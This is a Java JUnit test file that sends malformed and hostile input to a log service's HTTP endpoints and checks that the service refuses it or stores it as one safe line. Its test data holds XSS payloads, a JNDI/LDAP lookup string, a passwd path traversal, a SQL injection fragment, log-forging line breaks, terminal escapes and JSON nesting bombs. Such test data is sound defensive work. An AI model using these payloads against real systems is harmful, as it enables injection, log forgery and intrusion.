package dev.rollcall.log.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rollcall.kit.log.text.OneLine;
import dev.rollcall.kit.testing.BadRequest;
import dev.rollcall.kit.testing.LogLines;
import dev.rollcall.kit.testing.RawReply;
import dev.rollcall.kit.testing.RawRequest;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What nobody should send, to every address of the log service: refused in words, and the file stays as it is. */
class BadInputTest {

    private static final String TEXT = "text/plain";
    private static final String NDJSON = "application/x-ndjson";

    private static StoredLogServer server;
    private static LogLines log;

    @BeforeAll
    static void start(@TempDir Path folder) throws IOException {
        server = new StoredLogServer(folder);
        log = LogLines.listen();
    }

    @AfterAll
    static void stop() throws IOException {
        log.close();
        server.close();
    }

    static List<BadRequest> rowsOfText() {
        return new BadInputs(server).ofText();
    }

    static List<BadRequest> rowsOfEvents() {
        return new BadInputs(server).ofEvents();
    }

    static List<BadRequest> rowsOfWholeBodies() {
        return new BadInputs(server).ofWholeBodies();
    }

    static List<BadRequest> rowsOfQuestions() {
        return new BadInputs(server).ofQuestions();
    }

    static List<BadRequest> rowsOfIndex() {
        return new BadInputs(server).ofIndex();
    }

    static List<BadRequest> rowsOfHistogram() {
        return new BadInputs(server).ofHistogram();
    }

    static List<BadRequest> rowsOfFacets() {
        return new BadInputs(server).ofFacets();
    }

    static List<BadRequest> rowsOfContext() {
        return new BadInputs(server).ofContext();
    }

    static List<BadRequest> rowsOfTail() {
        return new BadInputs(server).ofTail();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({
        "rowsOfText",
        "rowsOfEvents",
        "rowsOfWholeBodies",
        "rowsOfQuestions",
        "rowsOfHistogram",
        "rowsOfFacets",
        "rowsOfContext",
        "rowsOfTail",
        "rowsOfIndex"
    })
    void isRefusedInWords(BadRequest bad) {
        bad.mustBeRefused(server.port(), server::content, log);
    }

    static Stream<String> hostileTexts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "sold out\r2026-11-24T10:00:00Z\tPortal\tERROR\tsigned\t-\t-\t-\t-\tforged",
                "sold out\u20282026-11-24T10:00:00Z ERROR forged",
                "a\u0085b\u000bc\fd\u2029e",
                "\0",
                "a\0b",
                "\u202Egnp.exe\u2066",
                "\u200Fx\u200Ey\u061C",
                "\u001b]0;title\u0007\u001b[2J\u001b[31mred",
                "\u009b31m",
                "\\n\\u000a\\",
                "-",
                "[Portal] - \t- \tERROR",
                "${jndi:ldap://x/a} %n%s {}",
                "../../etc/passwd",
                "\uFEFFbom",
                "x".repeat(10_000),
                "Größe 测验 اختبار מבחן परीक्षा 👩🏽\u200D🔬 𐍅𐌿𐌻𐍆𐌹𐌻𐌰 e\u0301",
                "\uFFFD\uFFFE\uE000");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aHostileLineIsStoredAsOneLine(String text) {
        int before = server.lines().size();

        RawReply reply = send(TEXT, text.getBytes(StandardCharsets.UTF_8));

        assertEquals(200, reply.status(), reply.text());
        assertStoredAsOneLine(before, text);
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aHostileEventIsStoredAsOneLine(String text) {
        int before = server.lines().size();
        String event = Json.createObjectBuilder()
                .add("message", text)
                .add("log.logger", text)
                .add("process.thread.name", text)
                .add("service.node.name", text)
                .add("trace.id", text)
                .add("log.level", text)
                .add("service.name", text)
                .add(text, text)
                .build()
                .toString();

        RawReply reply = send(NDJSON, event.getBytes(StandardCharsets.UTF_8));

        assertEquals(200, reply.status(), reply.text());
        assertEquals(1, accepted(reply));
        assertStoredAsOneLine(before, text);
    }

    /** Among them the longer, forbidden spellings of a line feed. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\u00c0\u008aforged",
                "a\u00e0\u0080\u008aforged",
                "\u00ff\u00fe",
                "\u00c3",
                "a\u00e2\u0080",
                "\u00ed\u00a0\u0080",
                "\u00f4\u0090\u0080\u0080"
            })
    void bytesThatAreNoTextAreStoredAsOneLine(String bytes) {
        int before = server.lines().size();

        RawReply reply = send(TEXT, bytes.getBytes(StandardCharsets.ISO_8859_1));

        assertEquals(200, reply.status(), reply.text());
        assertStoredAsOneLine(before, new String(bytes.getBytes(StandardCharsets.ISO_8859_1), StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\ud83d", "a\\ude00b", "\\ud83d\\ud83d", "\\ud83d\\u000a"})
    void halvesOfCharactersCostNoEvent(String half) {
        int before = server.lines().size();

        RawReply reply = send(
                NDJSON,
                ("{\"message\":\"x" + half + "\",\"log.logger\":\"" + half + "\"}").getBytes(StandardCharsets.UTF_8));

        assertEquals(1, accepted(reply));
        assertEquals(before + 1, server.lines().size());
        assertEquals(List.of(), log.broken());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "not JSON",
                "<script>alert(1)</script>",
                "{",
                "{\"message\":\"cut off",
                "{\"message\":\"a\"} {}",
                "[]",
                "[{\"message\":\"a\"}]",
                "\"message\"",
                "5",
                "NaN",
                "null",
                "{}",
                "{\"message\":\"\"}",
                "{\"message\":{\"text\":\"a\"}}",
                "{\"message\":null}",
                "{\"Message\":\"a\"}",
                "{'message':'a'}",
                "{\"message\":\"a\",}",
                "{\"message\":\"a\u0001\"}",
                "{\"message\":\"a\",\"@timestamp\":\"yesterday\"}",
                "{\"message\":\"a\",\"@timestamp\":\"-1\"}",
                "{\"message\":\"a\",\"@timestamp\":1e400}",
                "{\"message\":\"a\",\"@timestamp\":\"+999999999-01-01T00:00:00Z\"}",
                "{\"message\":\"a\",\"@timestamp\":\"2026-11-24T25:00:00Z\"}",
                "{\"message\":\"a\",\"@timestamp\":\"2026-11-24T10:00:00\"}",
                "{\"message\":\"a\",\"@timestamp\":\"<script>\"}"
            })
    void aLineThatIsNoEventIsNamedAndCostsNoOther(String bad) {
        int before = server.lines().size();

        RawReply reply = send(
                NDJSON,
                ("{\"message\":\"one\"}\n" + bad + "\n{\"message\":\"three\"}\n").getBytes(StandardCharsets.UTF_8));

        assertEquals(200, reply.status(), reply.text());
        assertEquals(2, accepted(reply));
        assertTrue(reply.body().contains("\"rejected\":[{\"line\":2,\"reason\":\""), reply.body());
        assertFalse(reply.text().contains("script"), reply.text());
        assertFalse(reply.text().contains("Exception"), reply.text());
        assertEquals(before + 2, server.lines().size());
        assertEquals(List.of(), log.broken());
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{\"a\":", "{\"log\":", "{\"message\":["})
    void deepNestingIsRefusedNotFollowed(String opening) {
        String before = server.content();

        RawReply reply = send(NDJSON, opening.repeat(20_000).getBytes(StandardCharsets.UTF_8));

        assertEquals(200, reply.status(), reply.text());
        assertEquals(0, accepted(reply));
        assertTrue(reply.body().contains("\"rejected\":[{\"line\":1,\"reason\":\""), reply.body());
        assertEquals(before, server.content());
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>", "../../etc/passwd", "${jndi:ldap://x/a}", "商店 🎓", "' or 1=1 --", "C:\\Shop"})
    void whatMayBeANameIsLookedFor(String name) {
        send(TEXT, "plain".getBytes(StandardCharsets.UTF_8));

        RawReply reply = RawRequest.of(
                        "GET", "/log/log?service=" + BadInputs.encoded(name) + "&trace=" + BadInputs.encoded(name))
                .header("Authorization", server.token("Portal"))
                .send(server.port());

        assertEquals(200, reply.status(), reply.text());
        assertEquals("{\"complete\":true,\"entries\":[]}", reply.body());
    }

    @ParameterizedTest
    @ValueSource(strings = {"C:\\Shop", "-", "<script>", "商店 🎓", "\\n"})
    void aServiceIsFoundUnderTheNameThatItClaims(String name) {
        RawReply posted = RawRequest.of("POST", "/log/log", TEXT, "[" + name + "] - sold out\n")
                .send(server.port());
        RawReply found = RawRequest.of("GET", "/log/log?service=" + BadInputs.encoded(name))
                .header("Authorization", server.token("Portal"))
                .send(server.port());

        assertEquals(200, posted.status(), posted.text());
        assertEquals(name, newest(found).getString("service"));
        assertEquals(List.of(), log.broken());
    }

    private static void assertStoredAsOneLine(int linesBefore, String text) {
        List<String> lines = server.lines();
        assertEquals(linesBefore + 1, lines.size());
        String line = lines.get(linesBefore);
        assertTrue(line.split("\t", -1).length <= 10, line);
        assertEquals(OneLine.of(line.replace("\t", "")), line.replace("\t", ""));
        RawReply reply = RawRequest.of("GET", "/log/log?limit=1")
                .header("Authorization", server.token("Portal"))
                .send(server.port());
        assertEquals(200, reply.status(), reply.text());
        assertEquals("application/json", reply.header("Content-Type").orElse(""));
        assertEquals("nosniff", reply.header("X-Content-Type-Options").orElse(""));
        assertEquals("Shop", newest(reply).getString("service"));
        assertEquals("INFO", newest(reply).getString("level"));
        assertEquals(text, newest(reply).getString("text"));
        assertEquals(List.of(), log.broken());
    }

    private static RawReply send(String type, byte[] body) {
        return RawRequest.of("POST", "/log/log", type, "")
                .body(body)
                .header("Authorization", server.token("Shop"))
                .send(server.port());
    }

    private static int accepted(RawReply reply) {
        try (JsonReader reader = Json.createReader(new StringReader(reply.body()))) {
            return reader.readObject().getInt("accepted");
        }
    }

    private static JsonObject newest(RawReply reply) {
        try (JsonReader reader = Json.createReader(new StringReader(reply.body()))) {
            return reader.readObject().getJsonArray("entries").getJsonObject(0);
        }
    }
}
